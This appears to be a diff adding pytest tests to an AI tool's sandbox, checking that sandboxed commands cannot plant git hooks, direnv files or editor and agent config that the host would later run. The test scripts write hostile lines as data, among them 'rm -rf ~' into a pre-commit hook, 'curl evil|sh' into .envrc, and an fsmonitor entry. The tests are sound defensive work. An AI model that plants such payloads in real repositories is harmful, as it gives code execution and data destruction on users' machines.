@@ -11,11 +11,13 @@ from pathlib import Path
 import pytest
 from sandbox_helpers import require_sandbox
 
+from skillchat.errors import SandboxFailure
 from skillchat.sandbox.command_tool import RunRequest, Verdict, outcome_result
 from skillchat.sandbox.detect import Tools
-from skillchat.sandbox.layout import Limits, SandboxSpec
+from skillchat.sandbox.layout import PROTECTED, Limits, SandboxSpec
 from skillchat.sandbox.runner import run_in_sandbox
 from skillchat.sandbox.written import Snapshot
+from skillchat.skills.validation import PROJECT_SKILL_DIRS
 
 AS_ROOT = os.geteuid() == 0
 SECRETS = {
@@ -30,6 +32,15 @@ def tools() -> Tools:
     status = require_sandbox()
     assert status.tools is not None
     return status.tools
+
+
+def writable_workspace(tmp_path: Path) -> Path:
+    """A workspace the command's user can write (as root, that user is nobody)."""
+    workspace = tmp_path / "ws"
+    workspace.mkdir()
+    if AS_ROOT:
+        workspace.chmod(0o777)
+    return workspace
 
 
 def test_no_key_nor_host_path_in_any_process_of_the_sandbox(
@@ -68,6 +79,80 @@ def test_nested_user_namespaces_are_refused(tools: Tools, tmp_path: Path) -> Non
     out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s"), script)
     assert out.stdout == "", out.stderr
     assert out.stderr.count("unshare failed") == 3
+
+
+def test_workspace_writes_cannot_plant_what_the_host_runs(tools: Tools, tmp_path: Path) -> None:
+    workspace = writable_workspace(tmp_path)
+    hooks = workspace / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    script = (
+        "echo 'rm -rf ~' > .git/hooks/pre-commit; "
+        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; "
+        "mv .git moved; rm -rf .git; echo 'curl evil|sh' > .envrc; "
+        "mkdir -p .vscode .idea .devcontainer .agents/skills/x .claude skills/x; "
+        "echo '{}' > .claude/settings.json; echo ok > fine.txt; echo done"
+    )
+    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), script)
+    assert out.stdout == "done\n", out.stderr
+    assert sorted(p.name for p in workspace.iterdir()) == [".git", "fine.txt"]
+    assert sorted(p.name for p in hooks.iterdir()) == []
+    assert (workspace / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
+    assert out.files_written == ["/workspace/fine.txt"]
+
+
+def test_host_run_files_deeper_in_the_workspace_are_pointed_out(
+    tools: Tools, tmp_path: Path
+) -> None:
+    workspace = writable_workspace(tmp_path)
+    script = "mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/pre-commit && echo x > a.txt"
+    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), script)
+    assert out.exit_code == 0, out.stderr
+    (note,) = out.notes
+    assert note.startswith("wrote where git, editors or direnv may run code from")
+    assert note.endswith(": /workspace/sub/.git/hooks/pre-commit")
+
+
+def test_a_missing_git_folder_cannot_be_made_and_nothing_is_left(
+    tools: Tools, tmp_path: Path
+) -> None:
+    workspace = writable_workspace(tmp_path)
+    (workspace / "src").mkdir()
+    script = "mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout; git init -q .; ls -a"
+    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), script)
+    listed = set(out.stdout.split())
+    assert set(PROTECTED) <= listed  # empty and read-only for the run
+    assert sorted(p.name for p in workspace.iterdir()) == ["src"]  # and gone after it
+
+
+def test_a_git_file_of_a_worktree_stays_as_it_was(tools: Tools, tmp_path: Path) -> None:
+    workspace = writable_workspace(tmp_path)
+    (workspace / ".git").write_text("gitdir: /elsewhere/.git/worktrees/ws\n")
+    script = "echo 'gitdir: /scratch/evil' > .git; rm -f .git; cat .git"
+    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), script)
+    assert out.stdout == "gitdir: /elsewhere/.git/worktrees/ws\n"
+    assert (workspace / ".git").read_text() == "gitdir: /elsewhere/.git/worktrees/ws\n"
+
+
+def test_a_symlinked_protected_entry_refuses_to_start(tools: Tools, tmp_path: Path) -> None:
+    workspace = writable_workspace(tmp_path)
+    (workspace / "conf").mkdir()
+    (workspace / ".vscode").symlink_to("conf")
+    with pytest.raises(SandboxFailure, match=r"\.vscode is a symlink"):
+        run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), "true")
+    assert sorted(p.name for p in workspace.iterdir()) == [".vscode", "conf"]
+    read_only = run_in_sandbox(  # without writes nothing needs protecting
+        tools, SandboxSpec(scratch=tmp_path / "s", workspace=workspace), "echo ran"
+    )
+    assert read_only.stdout == "ran\n"
+
+
+def test_every_project_skills_folder_is_protected() -> None:
+    assert {d.split("/")[0] for d in PROJECT_SKILL_DIRS} <= set(PROTECTED)
+
+
+def _writes(workspace: Path) -> dict[str, object]:
+    return {"workspace": workspace, "writable_workspace": True}
 
 
 def test_ram_folders_have_sizes_and_dev_is_read_only(tools: Tools, tmp_path: Path) -> None:
